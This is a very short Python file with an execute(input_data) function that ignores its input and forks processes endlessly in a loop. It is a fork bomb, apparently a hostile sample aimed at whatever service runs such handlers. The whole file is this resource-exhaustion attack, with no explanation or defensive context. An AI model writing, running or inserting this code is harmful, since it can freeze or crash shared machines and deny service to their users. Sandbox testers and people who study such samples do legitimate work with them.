import os
import time


def execute(input_data):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
